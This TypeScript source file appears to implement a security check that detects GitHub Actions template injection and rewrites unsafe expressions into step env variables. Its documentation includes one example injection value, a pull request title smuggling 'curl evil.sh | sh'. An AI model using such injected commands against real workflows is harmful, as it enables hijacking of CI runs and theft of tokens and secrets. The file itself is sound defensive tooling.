import type { Pair, Scalar } from 'yaml';
import type { CheckMeta, Finding, Fix, Severity, Confidence, TextEdit } from '../../model';
import type { Check, SourceFile } from '../types';
import { finding } from '../helpers';
import { get, isAlias, isMap, isScalar, keyString, locationOf, pairs, rangeLocation, deref, type YamlFile } from '../../yaml/parse';
import { triggerNames, type JobModel, type StepModel, type WorkflowModel } from '../../yaml/workflow';
import { parseUses } from '../../yaml/uses';
import { normalizeExpression, type ContextRef } from '../../yaml/expressions';
import { scalarExpressions, scalarValue, type ScalarExpression } from '../../workflow/scalar-expressions';
import { classifyContext, outsiderCanSupply, rank, type TaintVerdict, type TaintScope } from '../../workflow/taint';
import { jsStateAt, posixStateAt, pwshStateAt } from '../../workflow/shell-context';
import { addMapEntries, type Entry } from '../../workflow/edit';
import { SAME_REPO_GUARD } from '../../workflow/guards';

export const meta: CheckMeta = {
  id: 'template-injection',
  title: 'No untrusted text pasted into scripts',
  category: 'workflows',
  severity: 'high',
  confidence: 'high',
  fixable: true,
  essential: true,
  docs: {
    summary:
      'A `run:` script (or an `actions/github-script` script) contains `${{ … }}` that expands text other people can choose — an issue or pull request title, a comment, a branch name, a commit message — straight into the code before it runs.',
    whyItMatters:
      'GitHub replaces `${{ … }}` with its value before the shell sees the script, so the value becomes part of the program. A pull request titled `"; curl evil.sh | sh; echo "` then runs the attacker\'s commands inside your workflow, with its token and secrets. This is one of the most common ways GitHub Actions are taken over, and it needs nothing more than opening an issue or a pull request.',
    howToFix:
      'Pass the value through an environment variable instead: add `env: TITLE: ${{ github.event.issue.title }}` to the step and use `"$TITLE"` in the script (`process.env.TITLE` in github-script, `$env:TITLE` in PowerShell). The shell then treats it as data, never as code.',
    effort: 'minutes',
    fixSafety:
      'Safe: the script receives exactly the same text, only as data. Steward quotes the variable for the step\'s shell and keeps existing quoting. Where an expression used to be unquoted and may hold a list of words (a step output, an input), splitting into words changes, so that fix is marked for review.',
  },
  references: {
    zizmor: 'template-injection',
    scorecard: 'Dangerous-Workflow',
    osps: ['OSPS-BR-01.01'],
    other: [{ title: 'GitHub: Security hardening — understanding the risk of script injections', url: 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections' }],
  },
};

type Lang = 'posix' | 'pwsh' | 'js' | 'other';

interface Sink {
  kind: 'run' | 'script';
  node: Scalar;
  step: StepModel;
  job?: JobModel;
  lang: Lang;
  steps: readonly StepModel[];
}

// Functions whose result is a boolean or a hash, whatever text goes in.
const SAFE_CALLS = new Set(['contains', 'startswith', 'endswith', 'hashfiles', 'success', 'failure', 'always', 'cancelled']);

function langOf(shell: string | undefined, job: JobModel | undefined, isAction: boolean, file: YamlFile): Lang {
  let s = shell?.trim().split(/\s+/)[0]?.toLowerCase();
  if (!s) {
    if (isAction) return 'other'; // composite steps must name a shell; without one we cannot know
    const runsOn = job?.runsOn ? JSON.stringify(deref(job.runsOn.value, file) ?? '') : '';
    return /windows/i.test(runsOn) && !runsOn.includes('${{') ? 'pwsh' : 'posix';
  }
  if (s.includes('${{')) return 'other';
  s = s.replace(/^.*[\\/]/, '').replace(/\.exe$/, '');
  if (['bash', 'sh', 'zsh', 'dash', 'ksh', 'msys2'].includes(s)) return 'posix';
  if (['pwsh', 'powershell'].includes(s)) return 'pwsh';
  return 'other';
}

function isGithubScript(step: StepModel): boolean {
  if (!step.uses) return false;
  const u = parseUses(step.uses.value);
  return u.kind === 'repo' && u.owner.toLowerCase() === 'actions' && u.repo.toLowerCase() === 'github-script';
}

function sinks(file: SourceFile): Sink[] {
  const out: Sink[] = [];
  const isAction = !!file.action;
  const groups: { job?: JobModel; steps: StepModel[] }[] = file.workflow
    ? file.workflow.jobs.map((job) => ({ job, steps: job.steps }))
    : file.action
      ? [{ steps: file.action.steps }]
      : [];
  for (const { job, steps } of groups) {
    for (const step of steps) {
      if (step.run) out.push({ kind: 'run', node: step.run.node, step, job, lang: langOf(step.shell ?? job?.defaultShell, job, isAction, file.yaml!), steps });
      else if (isGithubScript(step) && step.with) {
        const script = get(step.with, 'script', file.yaml!);
        if (isScalar(script)) out.push({ kind: 'script', node: script, step, job, lang: 'js', steps });
      }
    }
  }
  return out;
}

interface Hit {
  sink: Sink;
  expr: ScalarExpression;
  verdict: TaintVerdict;
  ref: ContextRef;
}

function worstRef(expr: ScalarExpression, scope: TaintScope): { verdict: TaintVerdict; ref: ContextRef } | undefined {
  let best: { verdict: TaintVerdict; ref: ContextRef } | undefined;
  for (const ref of expr.refs) {
    if (ref.compared || (ref.inCall && SAFE_CALLS.has(ref.inCall))) continue;
    const verdict = classifyContext(ref.path, scope, 0, ref.segments);
    if (verdict.taint === 'safe') continue;
    if (!best || rank(verdict.taint) > rank(best.verdict.taint)) best = { verdict, ref };
  }
  return best;
}

function grade(v: TaintVerdict, triggers: ReadonlySet<string> | undefined): { severity: Severity; confidence: Confidence; outsider: boolean } {
  if (v.taint === 'attacker') {
    const outsider = triggers ? outsiderCanSupply(v, triggers) : false;
    return { severity: outsider ? 'high' : 'medium', confidence: 'high', outsider };
  }
  if (v.taint === 'input') return { severity: 'low', confidence: 'medium', outsider: false };
  return { severity: 'low', confidence: 'low', outsider: false };
}

const WHO: [string, string][] = [
  ['pull_request_target', 'anyone who can open a pull request'],
  ['pull_request', 'anyone who can open a pull request'],
  ['issues', 'anyone who can open an issue'],
  ['issue_comment', 'anyone who can comment'],
  ['pull_request_review', 'anyone who can review a pull request'],
  ['pull_request_review_comment', 'anyone who can comment on a pull request'],
  ['discussion', 'anyone who can start a discussion'],
  ['discussion_comment', 'anyone who can comment on a discussion'],
  ['workflow_run', 'anyone whose pull request starts the triggering workflow'],
  ['gollum', 'anyone who can edit the wiki'],
];

function who(v: TaintVerdict, triggers: ReadonlySet<string> | undefined): string {
  const carried = v.carriedBy ?? [];
  for (const [t, w] of WHO) if (triggers?.has(t) && (carried.length === 0 || carried.includes(t))) return w;
  return 'people outside the project';
}

function message(h: Hit, outsider: boolean, triggers: ReadonlySet<string> | undefined): string {
  const where = h.sink.kind === 'run' ? 'a `run:` script' : 'a github-script `script:`';
  const shown = `\`\${{ ${h.expr.expr} }}\``;
  const via = h.verdict.via ? ` (through \`${h.verdict.via}\`)` : '';
  switch (h.verdict.taint) {
    case 'attacker':
      return outsider
        ? `${shown} pastes ${h.verdict.what}${via} into ${where}: ${who(h.verdict, triggers)} can make this step run commands of their choice`
        : `${shown} pastes ${h.verdict.what}${via} into ${where}: that text is written by people who are not necessarily maintainers, and it becomes part of the code before it runs`;
    case 'input':
      return `${shown} pastes ${h.verdict.what}${via} into ${where}: whoever starts or calls the workflow chooses that text, and it becomes part of the code`;
    default:
      return `${shown} pastes ${h.verdict.what}${via} into ${where}; Steward cannot tell whether it can hold someone else's text, and passing it through \`env:\` is safer`;
  }
}

// --- The fix: move expressions into the step's env ---------------------------------------------

function readableName(ref: ContextRef): string {
  let segs = ref.segments.filter((s) => s !== '*');
  const lower = segs.map((s) => s.toLowerCase());
  if (lower[0] === 'github' && lower[1] === 'event') segs = segs.slice(2);
  else if (lower[0] === 'github') segs = segs.slice(1);
  // `inputs.x` and `github.event.inputs.x` are the same input: both become INPUT_X.
  if (segs[0]?.toLowerCase() === 'inputs') segs = ['input', ...segs.slice(1)];
  else if (lower[0] === 'steps' && lower[2] === 'outputs') segs = [segs[1], ...segs.slice(3)];
  else if (lower[0] === 'needs' && lower[2] === 'outputs') segs = [segs[1], ...segs.slice(3)];
  segs = segs.map((s) => (s.toLowerCase() === 'pull_request' ? 'pr' : s));
  let name = segs.join('_').toUpperCase().replace(/[^A-Z0-9]+/g, '_').replace(/^_+|_+$/g, '');
  if (!name) name = 'VALUE';
  if (/^[0-9]/.test(name)) name = `_${name}`;
  return name;
}

function envEntries(map: unknown, file: YamlFile): Map<string, string | undefined> {
  const out = new Map<string, string | undefined>();
  if (!isMap(map)) return out;
  for (const p of pairs(map)) {
    const k = keyString(p);
    if (k === undefined) continue;
    const v = deref(p.value, file);
    out.set(k, isScalar(v) ? scalarValue(v) : undefined);
  }
  return out;
}

/** `${{ expr }}` exactly, with whitespace collapsed — how equal env values are recognised. */
function asExprValue(v: string | undefined): string | undefined {
  if (v === undefined) return undefined;
  const m = /^\$\{\{([\s\S]*)\}\}$/.exec(v.trim());
  return m ? normalizeExpression(m[1]) : undefined;
}

function encodeForScalar(s: string, node: Scalar): string | undefined {
  switch (node.type) {
    case 'QUOTE_DOUBLE':
      return s.replace(/\\/g, '\\\\').replace(/"/g, '\\"');
    case 'QUOTE_SINGLE':
      return s.replace(/'/g, "''");
    case 'PLAIN':
      return / #|: /.test(s) ? undefined : s;
    default:
      return s;
  }
}

interface Replacement {
  start: number;
  end: number;
  text: string;
  /** The expression used to be unquoted where the shell splits words. */
  splits: boolean;
}

function replacementFor(h: Hit, name: string, file: YamlFile): Replacement | undefined {
  const raw = h.expr.raw;
  if (!raw) return undefined;
  const value = scalarValue(h.sink.node);
  const at = h.expr.value.start;
  let start = raw.start;
  let end = raw.end;
  let text: string | undefined;
  let splits = false;
  if (h.sink.lang === 'posix') {
    const st = posixStateAt(value, at);
    if (st === 'plain') {
      text = `"$${name}"`;
      splits = true;
    } else if (st === 'double' || st === 'heredoc') text = `\${${name}}`;
    else if (st === 'single') {
      const vEnd = h.expr.value.end;
      const quoteSafe = h.sink.node.type !== 'QUOTE_SINGLE';
      if (quoteSafe && value[at - 1] === "'" && value[vEnd] === "'" && file.text[raw.start - 1] === "'" && file.text[raw.end] === "'") {
        // '${{ x }}' alone: the single-quoted word becomes the double-quoted variable.
        start -= 1;
        end += 1;
        text = `"$${name}"`;
      } else text = `'"$${name}"'`;
    }
    else if (st === 'comment') text = `$${name}`;
  } else if (h.sink.lang === 'pwsh') {
    const st = pwshStateAt(value, at);
    if (st === 'plain') {
      text = `\${env:${name}}`;
      splits = true;
    } else if (st === 'double') text = `\${env:${name}}`;
    else if (st === 'comment') text = `$env:${name}`;
  } else if (h.sink.lang === 'js') {
    const st = jsStateAt(value, at);
    const ref = `process.env.${name}`;
    if (st === 'code' || st === 'comment') text = ref;
    else if (st === 'template') text = `\${${ref}}`;
    else {
      const q = st === 'single' ? "'" : '"';
      const vEnd = h.expr.value.end;
      const blockish = h.sink.node.type === 'BLOCK_LITERAL' || h.sink.node.type === 'BLOCK_FOLDED' || h.sink.node.type === 'PLAIN';
      if (blockish && value[at - 1] === q && value[vEnd] === q && file.text[raw.start - 1] === q && file.text[raw.end] === q) {
        // The string literal is the expression alone: the literal becomes the variable.
        start -= 1;
        end += 1;
        text = ref;
      } else text = `${q} + ${ref} + ${q}`;
    }
  }
  if (text === undefined) return undefined;
  const node = h.sink.node;
  if (node.type === 'PLAIN' && node.range && start === node.range[0] && /^["'`{[&*!|>%@]/.test(text)) return undefined;
  const encoded = encodeForScalar(text, node);
  if (encoded === undefined) return undefined;
  return { start, end, text: encoded, splits };
}

function stepFix(file: SourceFile, hits: Hit[]): Fix | undefined {
  const y = file.yaml!;
  const { step, job, sink } = { step: hits[0].sink.step, job: hits[0].sink.job, sink: hits[0].sink };
  if (sink.lang === 'other') return undefined;
  // A script shared through an anchor would change in places whose step gets no env entry.
  if (sink.node.anchor || (sink.kind === 'run' && step.run && isAlias(step.run.pair.value))) return undefined;
  if (sink.kind === 'script' && step.with && isAlias((step.with.items as Pair[]).find((p) => keyString(p) === 'script')?.value)) return undefined;
  const stepEnv = envEntries(step.env ?? (step.envPair ? deref(step.envPair.value, y) : undefined), y);
  const jobEnv = envEntries(job?.env, y);
  const wfEnv = envEntries(file.workflow?.env, y);
  const script = scalarValue(sink.node);
  const taken = new Set<string>([...stepEnv.keys(), ...jobEnv.keys(), ...wfEnv.keys()]);
  const chosen = new Map<string, string>(); // expression -> name
  const entries: Entry[] = [];
  const reps: Replacement[] = [];
  for (const h of hits) {
    let name = chosen.get(h.expr.expr);
    if (!name) {
      const envRef = /^env\.([A-Za-z_][A-Za-z0-9_]*)$/.exec(h.expr.expr);
      if (envRef) name = envRef[1];
      // Reuse a variable that already holds this expression, unless a closer level redefines that name.
      const levels: [Map<string, string | undefined>, Map<string, string | undefined>[]][] = [
        [stepEnv, []],
        [jobEnv, [stepEnv]],
        [wfEnv, [stepEnv, jobEnv]],
      ];
      for (const [scopeEnv, closer] of levels) {
        if (name) break;
        for (const [k, v] of scopeEnv) if (!name && asExprValue(v) === h.expr.expr && !closer.some((c) => c.has(k))) name = k;
      }
      if (!name) {
        const base = readableName(h.ref);
        name = base;
        for (let n = 2; taken.has(name) || new RegExp(`\\b${name}\\b`).test(script); n++) name = `${base}_${n}`;
        taken.add(name);
        entries.push({ key: name, value: `\${{ ${h.expr.expr} }}` });
      }
      chosen.set(h.expr.expr, name);
    }
    const r = replacementFor(h, name, y);
    if (!r) return undefined;
    reps.push(r);
  }
  const edits: TextEdit[] = reps.map((r) => ({ file: file.path, start: r.start, end: r.end, newText: r.text }));
  if (entries.length) {
    const add = addMapEntries(y, step.node, 'env', entries);
    if (!add) return undefined;
    edits.push(...add);
  }
  const splits = hits.some((h, i) => reps[i].splits && h.verdict.taint !== 'attacker');
  const names = [...new Set(chosen.values())];
  return {
    title: `Pass ${names.map((n) => `$${n}`).join(', ')} through the step's env instead of expanding ${hits.length === 1 ? 'the expression' : `${hits.length} expressions`} in the script`,
    safe: !splits,
    caveat: splits ? 'The value used to be unquoted, so the shell split it into words; it is now passed as one value — check the script does not rely on the splitting.' : undefined,
    edits,
  };
}

export const check: Check = {
  meta,
  fileKinds: ['workflow', 'action'],
  notApplicableReason: 'No workflows or actions',
  checkFile(file) {
    const y = file.yaml;
    if (!y || (!file.workflow && !file.action)) return [];
    const wf: WorkflowModel | undefined = file.workflow;
    const triggers = wf ? triggerNames(wf) : undefined;
    const out: Finding[] = [];
    const byStep = new Map<StepModel, { hits: Hit[]; findings: Finding[] }>();
    for (const sink of sinks(file)) {
      const scope: TaintScope = { file: y, workflow: wf, job: sink.job, step: sink.step, steps: sink.steps };
      for (const expr of scalarExpressions(y, sink.node)) {
        const w = worstRef(expr, scope);
        if (!w) continue;
        const hit: Hit = { sink, expr, verdict: w.verdict, ref: w.ref };
        const g = grade(w.verdict, wf && triggers && triggers.has('workflow_call') && triggers.size === 1 ? undefined : triggers);
        // Forks kept out by the job's or step's condition: only people with push access supply the text.
        const ifs = [sink.job?.if?.node, sink.step.if?.node].map((n) => (isScalar(n) ? String(n.value ?? '') : ''));
        if (g.outsider && ifs.some((t) => SAME_REPO_GUARD.test(t))) {
          g.outsider = false;
          g.severity = 'medium';
        }
        const location = expr.raw ? rangeLocation(y, expr.raw.start, expr.raw.end) : locationOf(y, sink.node);
        const f = finding(meta, { message: message(hit, g.outsider, triggers), severity: g.severity, confidence: g.confidence, location });
        out.push(f);
        const entry = byStep.get(sink.step) ?? { hits: [], findings: [] };
        entry.hits.push(hit);
        entry.findings.push(f);
        byStep.set(sink.step, entry);
      }
    }
    // One fix per step, shared by all of its findings: the env entries must be added together.
    for (const { hits, findings } of byStep.values()) {
      const fix = stepFix(file, hits);
      if (fix) for (const f of findings) f.fixes.push({ ...fix, edits: fix.edits.map((e) => ({ ...e })) });
    }
    return out;
  },
};
